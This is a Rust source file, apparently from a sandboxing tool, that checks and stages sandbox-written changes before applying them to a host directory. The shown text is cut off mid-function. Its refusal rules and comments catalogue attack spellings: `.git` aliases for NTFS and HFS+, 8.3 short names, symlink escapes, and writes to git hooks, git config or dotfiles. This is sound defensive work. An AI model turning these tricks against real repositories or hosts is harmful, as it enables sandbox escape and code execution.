//! Promotion: applying a sandbox's reviewed workspace changes to a directory on the host.
//!
//! Everything the sandbox wrote is hostile here: names, symlink targets, hard links, modes,
//! `.git` internals. Promotion happens in two phases so nothing is half-applied:
//!
//! 1. [`prepare`] checks every change against the [`Rules`] and the target's current state
//!    (each target path resolved beneath the target with `openat2(RESOLVE_BENEATH |
//!    RESOLVE_NO_SYMLINKS)`, nothing followed), reads every file once through the upper
//!    dir's no-follow walk, hashes it and (unless it is a dry run) copies it into a private
//!    staging directory inside the target, owned by the target's owner, with a plain mode.
//!    Any refusal leaves the target as it was (the staging directory is removed).
//! 2. [`apply`] then only removes, creates directories and renames staged entries into
//!    place, walking each parent from the target root with `O_NOFOLLOW` on every component.
//!    A rename replaces whatever name is there without writing through it, so a symlink or
//!    a hard link the target already holds is never written through.

use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::ffi::{CStr, CString, OsStr};
use std::fs::File;
use std::io;
use std::os::fd::{AsFd, BorrowedFd, OwnedFd};
use std::os::unix::ffi::OsStrExt as _;
use std::path::{Component, Path, PathBuf};

use rustix::fs::{AtFlags, Dir, FileType, Mode, OFlags, ResolveFlags, Stat};
use rustix::io::Errno;
use sha2::{Digest as _, Sha256};

use crate::escape::{escape_path, is_unsafe_char};
use crate::layout::{Footprint, Measured, SizeLimit, TooLarge, measure};
use crate::record::{Event, MAX_CHANGED_PATHS};
use crate::scratch::{
    Change, ChangeKind, DELETED_MANIFEST, FileKind, OPAQUE_MANIFEST, SKIPPED_MANIFEST,
    ScratchError, checked_layout, copy_file, open_root, open_source, read_link, size_of,
};

/// Name prefix of the staging directory [`prepare`] makes in the target root.
pub const STAGING_PREFIX: &str = ".agent-sandbox-promote";

/// What a commit writes inside `.git`, and so the only `.git` content promotion accepts:
/// these plain files directly in `.git`, and the trees `objects/` (except `objects/info/`),
/// `refs/` and `logs/`. None of it is written as a file: [`crate::history`] reads the
/// branches and objects and brings the commits back as checked objects.
pub const GIT_FILES: &[&str] = &[
    "HEAD",
    "ORIG_HEAD",
    "FETCH_HEAD",
    "MERGE_HEAD",
    "MERGE_MSG",
    "MERGE_MODE",
    "CHERRY_PICK_HEAD",
    "REVERT_HEAD",
    "AUTO_MERGE",
    "COMMIT_EDITMSG",
    "index",
    "packed-refs",
];

/// Errors of promotion (a refused entry is not an error: see [`Plan::refused`]).
#[derive(Debug, thiserror::Error)]
pub enum PromoteError {
    /// Reading the upper dir failed.
    #[error("cannot read the workspace changes")]
    Scratch(#[from] ScratchError),
    /// A filesystem operation on the target or the staging area failed.
    #[error("cannot {op} {}", escape_path(path))]
    Io {
        /// What was being done.
        op: &'static str,
        /// Path concerned.
        path: PathBuf,
        /// Cause.
        #[source]
        source: io::Error,
    },
    /// The target is not a directory.
    #[error("promotion target {} is not a directory", escape_path(path))]
    TargetNotDir {
        /// Target path.
        path: PathBuf,
    },
    /// The change set would write more than its limit (checked before any file is read).
    #[error(transparent)]
    TooLarge(#[from] TooLarge),
    /// A file changed in the upper dir between the diff and the copy.
    #[error("{} changed while being promoted", escape_path(path))]
    Changed {
        /// Path relative to the workspace.
        path: PathBuf,
    },
    /// [`apply`] was handed a plan that refuses entries or was prepared as a dry run.
    #[error("this plan cannot be applied: {why}")]
    NotApplicable {
        /// Why.
        why: &'static str,
    },
    /// The target changed between [`prepare`] and [`apply`].
    #[error("{} changed in the target since the plan was made", escape_path(path))]
    TargetChanged {
        /// Path relative to the target.
        path: PathBuf,
    },
    /// An apply step failed after others had succeeded.
    #[error(
        "promotion stopped at {} ({op}) with {} of {total} entries applied",
        escape_path(path),
        applied.len()
    )]
    Partial {
        /// The entry that failed, relative to the target.
        path: PathBuf,
        /// What was being done.
        op: &'static str,
        /// Entries applied before it, in order.
        applied: Vec<PathBuf>,
        /// Entries in the plan.
        total: usize,
        /// Cause.
        #[source]
        source: io::Error,
    },
}

pub(crate) fn io_at<'a>(
    op: &'static str,
    path: &'a Path,
) -> impl FnOnce(Errno) -> PromoteError + 'a {
    move |e| PromoteError::Io {
        op,
        path: path.to_owned(),
        source: e.into(),
    }
}

/// Why an entry is not promoted.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Refusal {
    /// The path has a protected name at some depth (`pkg/.envrc`, `a/.vscode/tasks.json`).
    Protected {
        /// The protected name as the policy writes it.
        name: String,
    },
    /// Inside `.git`, but not something a commit writes (`config`, `hooks/`, `commondir`,
    /// `info/`, `modules/`, `worktrees/`, ...).
    GitInternal {
        /// The path below `.git`.
        part: String,
    },
    /// A `.git` that is not a directory: a gitdir pointer sends git to another directory.
    GitNotDir,
    /// A symlink inside `.git`.
    GitSymlink,
    /// Removing a whole `.git` directory.
    GitRemoved,
    /// Inside a `.git` other than the workspace's own top-level one: only that repository's
    /// history comes back, as commits.
    NestedGit,
    /// A gitlink (a submodule's commit) in a commit's tree.
    Gitlink,
    /// A tree entry name git itself refuses (`.git` variants for NTFS and HFS+, `..`, ...).
    GitPath {
        /// git's reason.
        why: String,
    },
    /// A tree entry mode git does not write.
    TreeMode {
        /// The mode.
        mode: u32,
    },
    /// The sandbox's history cannot be read or taken as it is (a malformed ref, a missing or
    /// corrupt object, too much of it).
    History {
        /// What is wrong.
        why: String,
    },
    /// A directory outside `.git` that would be a git directory by git's rules (a `HEAD`
    /// beside `objects`, `refs`, `commondir` or `gitdir`, any case): git run inside it reads
    /// its `config`, or one that `commondir` points at.
    EmbeddedRepo,
    /// A name agent-sandbox itself uses (export manifests, the staging directory).
    Reserved,
    /// A name with control or invisible characters (`crate::escape::is_unsafe_char`), a
    /// backslash, an empty, `.` or `..` component, or that is not UTF-8.
    BadName,
    /// A name that a case-insensitive, normalising or Windows filesystem reads as `.git`
    /// (`.GIT`, `.git.`, `.git::$INDEX_ALLOCATION`, `.g\u{200c}it`).
    GitAlias {
        /// The name as written.
        name: String,
    },
    /// An 8.3 short name (`git~1`): on vfat and NTFS it may reach another file, `.git` or a
    /// protected name.
    ShortName {
        /// The name as written.
        name: String,
    },
    /// A symlink with an absolute target.
    SymlinkAbsolute,
    /// A symlink whose target leaves the target tree.
    SymlinkEscapes,
    /// A symlink whose target has `..` after a name (what it reaches depends on that name).
    SymlinkDotDot,
    /// A symlink whose target names a path promotion refuses.
    SymlinkToRefused {
        /// Why that path is refused.
        why: Box<Refusal>,
    },
    /// A symlink whose target is in, or is, a `.git`.
    SymlinkIntoGit,
    /// A symlink whose target resolves through another symlink.
    SymlinkThroughLink {
        /// The symlink on the way, relative to the target.
        via: PathBuf,
    },
    /// A file with more names than the change set holds: a hard link to something outside it.
    HardLink {
        /// Its link count.
        nlink: u64,
        /// How many of its names the change set holds.
        inside: u64,
    },
    /// A fifo, socket, device or unknown type.
    Special {
        /// Its type.
        kind: FileKind,
    },
    /// A setuid or setgid bit.
    SetId {
        /// The permission bits.
        mode: u32,
    },
    /// A parent directory in the target is a symlink.
    ParentSymlink,
    /// A parent in the target is not a directory and the change set does not replace it.
    ParentNotDir,
    /// Applying it would remove something in the target that promotion refuses to touch.
    RemovesRefused {
        /// That path, relative to the target.
        path: PathBuf,
        /// Why it may not be removed.
        why: Box<Refusal>,
    },
}

impl std::fmt::Display for Refusal {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Refusal::Protected { name } => write!(f, "protected name {name} (at any depth)"),
            Refusal::GitInternal { part } => write!(
                f,
                ".git/{} is not something a commit writes",
                crate::escape::escape(part)
            ),
            Refusal::GitNotDir => f.write_str(
                "a .git that is not a directory (a gitdir pointer sends git elsewhere)",
            ),
            Refusal::GitSymlink => f.write_str("a symlink inside .git"),
            Refusal::GitRemoved => f.write_str("removes a whole .git directory"),
            Refusal::NestedGit => f.write_str(
                "inside a nested .git (only the workspace's own history comes back, as commits)",
            ),
            Refusal::Gitlink => f.write_str(
                "a gitlink (submodule commit): git would check out another repository there",
            ),
            Refusal::GitPath { why } => write!(f, "a name git refuses: {why}"),
            Refusal::TreeMode { mode } => write!(f, "a tree entry mode {mode:o} git does not write"),
            Refusal::History { why } => write!(f, "history: {}", crate::escape::escape(why)),
            Refusal::EmbeddedRepo => f.write_str(
                "makes a directory a git directory (HEAD beside objects, refs, commondir or gitdir: git run there reads its config)",
            ),
            Refusal::Reserved => f.write_str("a name agent-sandbox uses for its own files"),
            Refusal::BadName => f.write_str(
                "a name with control or invisible characters, a backslash, an empty, . or .. part, or not UTF-8",
            ),
            Refusal::GitAlias { name } => write!(
                f,
                "{} is .git on a case-insensitive or Windows filesystem",
                crate::escape::escape(name)
            ),
            Refusal::ShortName { name } => write!(
                f,
                "{} is an 8.3 short name: on vfat and NTFS it may reach another file, such as .git",
                crate::escape::escape(name)
            ),
            Refusal::SymlinkAbsolute => f.write_str("a symlink with an absolute target"),
            Refusal::SymlinkEscapes => f.write_str("a symlink whose target leaves the target tree"),
            Refusal::SymlinkDotDot => f.write_str("a symlink whose target has .. after a name"),
            Refusal::SymlinkIntoGit => f.write_str("a symlink into .git"),
            Refusal::SymlinkToRefused { why } => write!(f, "a symlink to a refused path: {why}"),
            Refusal::SymlinkThroughLink { via } => write!(
                f,
                "a symlink whose target passes through the symlink /{}",
                escape_path(via)
            ),
            Refusal::HardLink { nlink, inside } => write!(
                f,
                "a hard link to a file outside the change set ({nlink} links, {inside} in the change set)"
            ),
            Refusal::Special { kind } => write!(f, "a {} (only files, dirs and symlinks)", kind.name()),
            Refusal::SetId { mode } => write!(f, "setuid/setgid mode {mode:04o}"),
            Refusal::ParentSymlink => f.write_str("a parent directory in the target is a symlink"),
            Refusal::ParentNotDir => f.write_str("a parent in the target is not a directory"),
            Refusal::RemovesRefused { path, why } => {
                write!(f, "would remove /{} in the target: {why}", escape_path(path))
            }
        }
    }
}

/// The names promotion refuses at any depth (the policy's protected names), and git's own
/// rules for path names. Names are compared as a case-insensitive, normalising target
/// filesystem would ([`crate::names::key`]): `.ENVRC`, `.Git/config` and `.bashrc.` are
/// refused like `.envrc`, `.git/config` and `.bashrc`.
#[derive(Debug, Clone, Default)]
pub struct Rules {
    /// Each protected name as the policy writes it, and the keys of its components.
    names: Vec<(String, Vec<String>)>,
}

impl Rules {
    /// Rules refusing each of `names` (relative names, `/`-separated, a trailing `/` for a
    /// directory: `.bashrc`, `.vscode/`, `.git/hooks/`) wherever it occurs in a path, in any
    /// spelling a target filesystem reads as it, and everything below it.
    pub fn new<'a>(names: impl IntoIterator<Item = &'a str>) -> Rules {
        let mut out: Vec<(String, Vec<String>)> = names
            .into_iter()
            .filter_map(|n| {
                let parts: Vec<String> = n
                    .split('/')
                    .filter(|p| !p.is_empty())
                    .map(crate::names::key)
                    .collect();
                (!parts.is_empty()).then(|| (n.to_owned(), parts))
            })
            .collect();
        out.sort();
        out.dedup();
        Rules { names: out }
    }

    /// The protected name `path` matches at some depth, if any, comparing the keys of its
    /// components ([`crate::names::key`]).
    pub fn protected(&self, path: &Path) -> Option<&str> {
        let comps: Vec<String> = path
            .iter()
            .map(|c| crate::names::key(&c.to_string_lossy()))
            .collect();
        self.protected_keys(&comps)
    }

    fn protected_keys(&self, comps: &[String]) -> Option<&str> {
        self.names.iter().find_map(|(name, parts)| {
            comps
                .windows(parts.len())
                .any(|w| w == parts.as_slice())
                .then_some(name.as_str())
        })
    }

    /// Why `path` (an entry of type `kind`) may not be written, or removed when
    /// `removal`, in a promotion target. `path` is relative, `/`-separated; every caller
    /// (file promotion, the history checker for each tree entry) gets the same rules: names
    /// that are not UTF-8 or hold invisible characters, empty, `.` or `..` components and
    /// backslashes; agent-sandbox's own names; 8.3 short names and spellings of `.git` other
    /// than `.git` itself; `.git` internals a commit does not write; protected names.
    pub fn check(&self, path: &Path, kind: FileKind, removal: bool) -> Option<Refusal> {
        let mut comps = Vec::new();
        for raw in path.as_os_str().as_bytes().split(|b| *b == b'/') {
            let Ok(s) = std::str::from_utf8(raw) else {
                return Some(Refusal::BadName);
            };
            // Git refuses backslashes (a separator on Windows) and `.`/`..`/empty parts.
            if matches!(s, "" | "." | "..") || s.contains('\\') || s.chars().any(is_unsafe_char) {
                return Some(Refusal::BadName);
            }
            comps.push(s);
        }
        let keys: Vec<String> = comps.iter().map(|c| crate::names::key(c)).collect();
        let reserved = [DELETED_MANIFEST, OPAQUE_MANIFEST, SKIPPED_MANIFEST].map(crate::names::key);
        let staging = crate::names::key(STAGING_PREFIX);
        if keys
            .iter()
            .any(|k| reserved.contains(k) || k.starts_with(&staging))
        {
            return Some(Refusal::Reserved);
        }
        for (c, k) in comps.iter().zip(&keys) {
            if crate::names::is_short_name(c) {
                return Some(Refusal::ShortName {
                    name: (*c).to_owned(),
                });
            }
            if k == ".git" && *c != ".git" {
                return Some(Refusal::GitAlias {
                    name: (*c).to_owned(),
                });
            }
        }
        for (i, c) in comps.iter().enumerate() {
            if *c != ".git" {
                continue;
            }
            let rest = comps.get(i + 1..).unwrap_or_default();
            if rest.is_empty() {
                if kind != FileKind::Dir && !removal {
                    return Some(Refusal::GitNotDir);
                }
                if removal {
                    return Some(Refusal::GitRemoved);
                }
                continue;
            }
            if kind == FileKind::Symlink {
                return Some(Refusal::GitSymlink);
            }
            if !git_allows(rest, kind) {
                return Some(Refusal::GitInternal {
                    part: rest.join("/"),
                });
            }
        }
        // A non-directory named .git: a gitdir pointer (written, or removed to expose what
        // it hid: both change which repository git uses).
        if comps.last() == Some(&".git") && kind != FileKind::Dir {
            return Some(Refusal::GitNotDir);
        }
        self.protected_keys(&keys).map(|name| Refusal::Protected {
            name: name.to_owned(),
        })
    }
}

/// Why `path`, which is not below the workspace's top-level `.git`, may not be promoted
/// because of a `.git` (any case) in it: content below one is never carried, and a
/// non-directory with such a name is a gitdir pointer.
fn nested_git(path: &Path, kind: FileKind, removal: bool) -> Option<Refusal> {
    let comps: Vec<&OsStr> = path.iter().collect();
    let last = comps.len().saturating_sub(1);
    for (i, c) in comps.iter().enumerate() {
        if !crate::history::is_dot_git(c.as_bytes()) {
            continue;
        }
        if i < last {
            return Some(Refusal::NestedGit);
        }
        if removal {
            return Some(Refusal::GitRemoved);
        }
        if kind != FileKind::Dir {
            return Some(Refusal::GitNotDir);
        }
    }
    None
}

/// Whether `rest` (the components below a `.git`) is something a commit writes.
fn git_allows(rest: &[&str], kind: FileKind) -> bool {
    match rest {
        ["objects", "info", ..] => false,
        ["objects" | "refs" | "logs", ..] => true,
        [name] => kind != FileKind::Dir && GIT_FILES.contains(name),
        _ => false,
    }
}

/// What the target holds at a path before promotion.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Existing {
    /// Nothing (or a parent that promotion creates or replaces).
    Absent,
    /// A directory.
    Dir,
    /// A regular file.
    File,
    /// A symlink.
    Symlink,
    /// Anything else.
    Other,
}

/// What promotion does with one change.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Op {
    /// Remove what the target holds there (a whole tree for a directory).
    Delete,
    /// Make sure a directory is there (mode 0755 when created); `clear` removes what an
    /// existing one holds first (an opaque directory replaces its lower one wholesale).
    Dir {
        /// Remove the existing directory's content first.
        clear: bool,
    },
    /// Put a regular file there.
    File {
        /// 0644, or 0755 when any execute bit was set.
        mode: u32,
        /// Size in bytes (holes included).
        size: u64,
        /// Bytes of data: what is read and written (holes are neither).
        data: u64,
        /// sha256 of the file's layout and data (`crate::layout`): its size, then each
        /// data segment's offset, length and bytes; a hole is never expanded to be hashed.
        sha256: [u8; 32],
        /// An earlier path of the change set that is the same file: this one is a hard
        /// link to it (staged once, linked within the change set).
        link: Option<PathBuf>,
    },
    /// Put a symlink there (its target stays inside the target tree).
    Symlink {
        /// The target, as stored.
        target: PathBuf,
    },
}

/// One planned step.
#[derive(Debug, Clone)]
pub struct Entry {
    /// Path relative to the target.
    pub path: PathBuf,
    /// How the sandbox changed it.
    pub kind: ChangeKind,
    /// What promotion does.
    pub op: Op,
    /// What the target holds there now.
    pub existing: Existing,
    staged: Option<CString>,
}

impl Entry {
    /// One line for a person, names escaped: `create /src/new.py (file 0644, 12 bytes)`.
    pub fn describe(&self) -> String {
        let p = escape_path(&self.path);
        let replaces = match self.existing {
            Existing::Absent => "",
            Existing::Dir => ", replacing a directory",
            Existing::File => "",
            Existing::Symlink => ", replacing a symlink",
            Existing::Other => ", replacing a special file",
        };
        match &self.op {
            Op::Delete if self.existing == Existing::Absent => {
                format!("delete  /{p} (already absent)")
            }
            Op::Delete => format!("delete  /{p}"),
            Op::Dir { clear: true } => format!("clear   /{p} (opaque: its current content goes)"),
            Op::Dir { clear: false } if self.existing == Existing::Dir => {
                format!("keep    /{p} (directory)")
            }
            Op::Dir { .. } => format!("mkdir   /{p}{replaces}"),
            Op::File {
                mode,
                size,
                data,
                link,
                ..
            } => {
                let verb = if self.existing == Existing::File {
                    "replace"
                } else {
                    "create "
                };
                match link {
                    Some(first) => format!(
                        "{verb} /{p} (hard link to /{}{replaces})",
                        escape_path(first)
                    ),
                    None if data != size => format!(
                        "{verb} /{p} (file {mode:04o}, {size} bytes, {data} of them data{replaces})"
                    ),
                    None => format!("{verb} /{p} (file {mode:04o}, {size} bytes{replaces})"),
                }
            }
            Op::Symlink { target } => {
                format!("symlink /{p} -> {}{replaces}", escape_path(target))
            }
        }
    }
}

/// The result of [`prepare`]: what would be done, what is refused, and the digest of the
/// change set.
#[derive(Debug)]
pub struct Plan {
    /// Steps in order (parents before children).
    pub entries: Vec<Entry>,
    /// Refused entries with the reason, in path order.
    pub refused: Vec<(PathBuf, Refusal)>,
    /// `sha256:` digest of the steps (paths, kinds, modes, file contents, link targets).
    pub digest: String,
    /// What the change set's files take on the target (holes kept, each file once):
    /// [`Footprint::data`] is what staging writes.
    pub footprint: Footprint,
    /// The target's owner (uid, gid): every created entry gets it.
    pub owner: (u32, u32),
    target: PathBuf,
    root: OwnedFd,
    staging: Option<Staging>,
}

/// The private staging directory in the target root; removed on drop.
#[derive(Debug)]
struct Staging {
    name: CString,
    fd: OwnedFd,
    root: OwnedFd,
    next: u64,
}

impl Staging {
    fn new(root: &OwnedFd, target: &Path, owner: (u32, u32)) -> Result<Staging, PromoteError> {
        let name =
            CString::new(format!("{STAGING_PREFIX}-{}", std::process::id())).unwrap_or_default();
        let path = target.join(OsStr::from_bytes(name.as_bytes()));
        rustix::fs::mkdirat(root, name.as_c_str(), Mode::from_raw_mode(0o700))
            .map_err(io_at("create staging directory", &path))?;
        let root = rustix::io::fcntl_dupfd_cloexec(root, 0).map_err(io_at("open", target))?;
        let fd = rustix::fs::openat(
            &root,
            name.as_c_str(),
            OFlags::RDONLY | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC,
            Mode::empty(),
        );
        let staging_fd = match fd {
            Ok(fd) => fd,
            Err(e) => {
                let _ = rustix::fs::unlinkat(&root, name.as_c_str(), AtFlags::REMOVEDIR);
                return Err(io_at("open staging directory", &path)(e));
            }
        };
        let staging = Staging {
            name,
            fd: staging_fd,
            root,
            next: 0,
        };
        chown_if_needed(staging.fd.as_fd(), owner).map_err(io_at("chown", &path))?;
        Ok(staging)
    }

    fn next_name(&mut self) -> CString {
        self.next += 1;
        CString::new(self.next.to_string()).unwrap_or_default()
    }
}

impl Drop for Staging {
    fn drop(&mut self) {
        if let Err(e) = remove_tree(self.root.as_fd(), self.name.as_c_str()) {
            tracing::warn!(error = %e, "cannot remove the promotion staging directory");
        }
    }
}

pub(crate) fn chown_if_needed(fd: BorrowedFd<'_>, (uid, gid): (u32, u32)) -> Result<(), Errno> {
    let st = rustix::fs::fstat(fd)?;
    if st.st_uid == uid && st.st_gid == gid {
        return Ok(());
    }
    rustix::fs::fchown(
        fd,
        Some(rustix::fs::Uid::from_raw(uid)),
        Some(rustix::fs::Gid::from_raw(gid)),
    )
}

fn file_type(st: &Stat) -> Existing {
    match FileType::from_raw_mode(st.st_mode) {
        FileType::Directory => Existing::Dir,
        FileType::RegularFile => Existing::File,
        FileType::Symlink => Existing::Symlink,
        _ => Existing::Other,
    }
}

fn cname(path: &Path) -> Result<CString, PromoteError> {
    let name = path.file_name().unwrap_or_default();
    CString::new(name.as_bytes()).map_err(|e| PromoteError::Io {
        op: "resolve",
        path: path.to_owned(),
        source: io::Error::new(io::ErrorKind::InvalidInput, e),
    })
}

/// Looks up `rel` in the target without following anything.
pub(crate) fn lookup(
    root: &OwnedFd,
    rel: &Path,
    fresh: &BTreeSet<PathBuf>,
) -> Result<Result<Existing, Refusal>, PromoteError> {
    if rel.ancestors().skip(1).any(|a| fresh.contains(a)) {
        return Ok(Ok(Existing::Absent));
    }
    let parent = rel.parent().unwrap_or(Path::new(""));
    let pfd = if parent.as_os_str().is_empty() {
        rustix::io::fcntl_dupfd_cloexec(root, 0).map_err(io_at("open", rel))?
    } else {
        match rustix::fs::openat2(
            root,
            parent,
            OFlags::PATH | OFlags::DIRECTORY | OFlags::CLOEXEC,
            Mode::empty(),
            ResolveFlags::BENEATH | ResolveFlags::NO_SYMLINKS | ResolveFlags::NO_MAGICLINKS,
        ) {
            Ok(fd) => fd,
            Err(Errno::NOENT) => return Ok(Ok(Existing::Absent)),
            Err(Errno::LOOP) => return Ok(Err(Refusal::ParentSymlink)),
            Err(Errno::NOTDIR) => return Ok(Err(Refusal::ParentNotDir)),
            Err(e) => return Err(io_at("resolve", parent)(e)),
        }
    };
    match rustix::fs::statat(&pfd, cname(rel)?.as_c_str(), AtFlags::SYMLINK_NOFOLLOW) {
        Ok(st) => Ok(Ok(file_type(&st))),
        Err(Errno::NOENT) => Ok(Ok(Existing::Absent)),
        Err(e) => Err(io_at("stat", rel)(e)),
    }
}

/// Every path below the directory `rel` of the target (no link followed), with its type.
fn scan_tree(root: &OwnedFd, rel: &Path) -> Result<Vec<(PathBuf, FileKind)>, PromoteError> {
    let dir = rustix::fs::openat2(
        root,
        rel,
        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::CLOEXEC,
        Mode::empty(),
        ResolveFlags::BENEATH | ResolveFlags::NO_SYMLINKS | ResolveFlags::NO_MAGICLINKS,
    )
    .map_err(io_at("open directory", rel))?;
    let mut out = Vec::new();
    scan_into(&dir, rel, &mut out)?;
    Ok(out)
}

fn scan_into(
    dir: &OwnedFd,
    rel: &Path,
    out: &mut Vec<(PathBuf, FileKind)>,
) -> Result<(), PromoteError> {
    for name in names_of(dir, rel)? {
        let child = rel.join(OsStr::from_bytes(name.to_bytes()));
        let st = match rustix::fs::statat(dir, name.as_c_str(), AtFlags::SYMLINK_NOFOLLOW) {
            Ok(st) => st,
            Err(Errno::NOENT) => continue,
            Err(e) => return Err(io_at("stat", &child)(e)),
        };
        let kind = FileKind::of(&st);
        out.push((child.clone(), kind));
        if kind == FileKind::Dir {
            let sub = rustix::fs::openat(
                dir,
                name.as_c_str(),
                OFlags::RDONLY | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC,
                Mode::empty(),
            )
            .map_err(io_at("open directory", &child))?;
            scan_into(&sub, &child, out)?;
        }
    }
    Ok(())
}

pub(crate) fn names_of(dir: &OwnedFd, rel: &Path) -> Result<Vec<CString>, PromoteError> {
    let mut names = Vec::new();
    for entry in Dir::read_from(dir).map_err(io_at("read directory", rel))? {
        let entry = entry.map_err(io_at("read directory", rel))?;
        let n = entry.file_name();
        if n.to_bytes() != b"." && n.to_bytes() != b".." {
            names.push(n.to_owned());
        }
    }
    names.sort();
    Ok(names)
}

/// Resolves a symlink target lexically from the link's directory; the path it names,
/// relative to the target root.
pub(crate) fn resolve_link(link: &Path, target: &Path) -> Result<PathBuf, Refusal> {
    let mut stack: Vec<&OsStr> = link
        .parent()
        .map(|p| p.iter().collect())
        .unwrap_or_default();
    let mut named = false;
    for c in target.components() {
        match c {
            Component::RootDir | Component::Prefix(_) => return Err(Refusal::SymlinkAbsolute),
            Component::CurDir => {}
            Component::ParentDir if named => return Err(Refusal::SymlinkDotDot),
            Component::ParentDir => {
                if stack.pop().is_none() {
                    return Err(Refusal::SymlinkEscapes);
                }
            }
            Component::Normal(n) => {
                named = true;
                stack.push(n);
            }
        }
    }
    Ok(stack.iter().collect())
}

/// Reads a file's data segments (never its holes) once, hashes them with its layout and,
/// when staging, writes them at their offsets into a sparse staged copy. The file must still
/// be the one [`measure`]d as `measured` (same inode, no more data).
fn copy_and_hash(
    upper_fd: &OwnedFd,
    upper: &Path,
    rel: &Path,
    expected: &Change,
    measured: Option<&Measured>,
    staging: Option<&mut Staging>,
    owner: (u32, u32),
) -> Result<(Stat, [u8; 32], u64, Option<CString>), PromoteError> {
    let changed = || PromoteError::Changed {
        path: rel.to_owned(),
    };
    let (src, st) = open_source(upper_fd, upper, rel)?;
    if st.st_mode & 0o7777 != expected.mode {
        return Err(changed());
    }
    let layout = checked_layout(&src, &st, measured, upper, rel).map_err(|e| match e {
        ScratchError::Changed { .. } => changed(),
        e => e.into(),
    })?;
    let mut hasher = Sha256::new();
    let (out, name) = match staging {
        Some(s) => {
            let name = s.next_name();
            let fd = rustix::fs::openat(
                &s.fd,
                name.as_c_str(),
                OFlags::WRONLY | OFlags::CREATE | OFlags::EXCL | OFlags::NOFOLLOW | OFlags::CLOEXEC,
                Mode::from_raw_mode(0o600),
            )
            .map_err(io_at("create staged copy of", rel))?;
            (Some(File::from(fd)), Some(name))
        }
        None => (None, None),
    };
    copy_file(
        &src,
        &layout,
        Some(&mut hasher),
        out.as_ref(),
        upper,
        rel,
        rel,
    )
    .map_err(|e| match e {
        ScratchError::Changed { .. } => changed(),
        ScratchError::Io {
            op: "write",
            source,
            ..
        } => PromoteError::Io {
            op: "write staged copy of",
            path: rel.to_owned(),
            source,
        },
        e => e.into(),
    })?;
    if let Some(f) = out {
        let mode = normal_file_mode(st.st_mode);
        chown_if_needed(f.as_fd(), owner).map_err(io_at("chown staged copy of", rel))?;
        rustix::fs::fchmod(&f, Mode::from_raw_mode(mode))
            .map_err(io_at("chmod staged copy of", rel))?;
        f.sync_all().map_err(|source| PromoteError::Io {
            op: "sync staged copy of",
            path: rel.to_owned(),
            source,
        })?;
    }
    Ok((st, hasher.finalize().into(), layout.data(), name))
}

/// The mode a promoted file gets: 0755 if any execute bit was set, else 0644 (what git
/// itself records); never setuid, setgid or sticky.
pub fn normal_file_mode(mode: u32) -> u32 {
    if mode & 0o111 != 0 { 0o755 } else { 0o644 }
}

/// Checks `changes` (from [`crate::diff`] of `upper`) against `rules` and the current
/// content of `target`, and hashes every file. With `stage`, files and symlinks are also
/// copied into a private staging directory in `target` for [`apply`]; without it (a dry
/// run) nothing in `target` is touched. Refused entries are listed in [`Plan::refused`];
/// when there are any, nothing may be applied.
///
/// Holes and hard links are kept: only data segments are read, hashed and staged (staged
/// copies are sparse), and a file with several names in the change set is read and staged
/// once, its other names staged as hard links to that copy. Before any file is read, the
/// change set's size on the target (holes kept, each file once) must be within `limit`.
pub fn prepare(
    upper: &Path,
    changes: &[Change],
    target: &Path,
    rules: &Rules,
    stage: bool,
    limit: &SizeLimit,
) -> Result<Plan, PromoteError> {
    let root = open_target(target)?;
    let st = rustix::fs::fstat(&root).map_err(io_at("stat", target))?;
    let owner = (st.st_uid, st.st_gid);
    let upper_fd = open_root(upper, OFlags::RDONLY)?;
    // Sizes from stat and the hole map only: nothing is read, nothing staged, past the limit.
    let footprint = measure(&upper_fd, upper, changes)?;
    footprint.check(footprint.data, limit)?;
    let staging = if stage {
        Some(Staging::new(&root, target, owner)?)
    } else {
        None
    };
    let mut p = Preparer {
        upper,
        upper_fd,
        root,
        target,
        rules,
        owner,
        footprint,
        staging,
        refused: Vec::new(),
        entries: Vec::new(),
        fresh: BTreeSet::new(),
        copied: HashMap::new(),
        links: Vec::new(),
    };
    for c in changes {
        p.add(c)?;
    }
    // Every symlink of the change set, refused ones too.
    let all_links: BTreeSet<&Path> = changes
        .iter()
        .filter(|c| c.file_type == FileKind::Symlink && c.kind != ChangeKind::Deleted)
        .map(|c| c.path.as_path())
        .collect();
    p.refuse_links_through_links(&all_links)?;
    p.refuse_embedded_repos()?;
    Ok(p.finish())
}

/// The promotion target as a directory descriptor: every later step resolves beneath it.
fn open_target(target: &Path) -> Result<OwnedFd, PromoteError> {
    match rustix::fs::open(
        target,
        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::CLOEXEC,
        Mode::empty(),
    ) {
        Ok(fd) => Ok(fd),
        Err(Errno::NOTDIR) => Err(PromoteError::TargetNotDir {
            path: target.to_owned(),
        }),
        Err(e) => Err(io_at("open", target)(e)),
    }
}

/// A step of the plan for one change: what to do and its staged copy, or why it is refused.
type Step = Result<(Op, Option<CString>), Refusal>;

/// [`prepare`]'s state while it walks the change set.
struct Preparer<'a> {
    upper: &'a Path,
    upper_fd: OwnedFd,
    root: OwnedFd,
    target: &'a Path,
    rules: &'a Rules,
    owner: (u32, u32),
    footprint: Footprint,
    staging: Option<Staging>,
    refused: Vec<(PathBuf, Refusal)>,
    entries: Vec<Entry>,
    /// Paths the plan creates or clears: nothing of the target's is left below them.
    fresh: BTreeSet<PathBuf>,
    /// (dev, ino) -> the entry that read and staged that file, for its other names.
    copied: HashMap<(u64, u64), (PathBuf, Op, Option<CString>)>,
    /// Planned symlinks and the path each resolves to.
    links: Vec<(PathBuf, PathBuf)>,
}

impl Preparer<'_> {
    /// Adds `c` to the plan as a step, or to the refused entries with the reason.
    fn add(&mut self, c: &Change) -> Result<(), PromoteError> {
        let existing = match self.admit(c)? {
            Ok(Some(existing)) => existing,
            Ok(None) => return Ok(()),
            Err(r) => {
                self.refused.push((c.path.clone(), r));
                return Ok(());
            }
        };
        let step = match (c.kind, c.file_type) {
            (ChangeKind::Deleted, _) => Ok((Op::Delete, None)),
            (_, FileKind::Dir) => Ok(self.dir_step(c, existing)),
            (_, FileKind::File) => self.file_step(c)?,
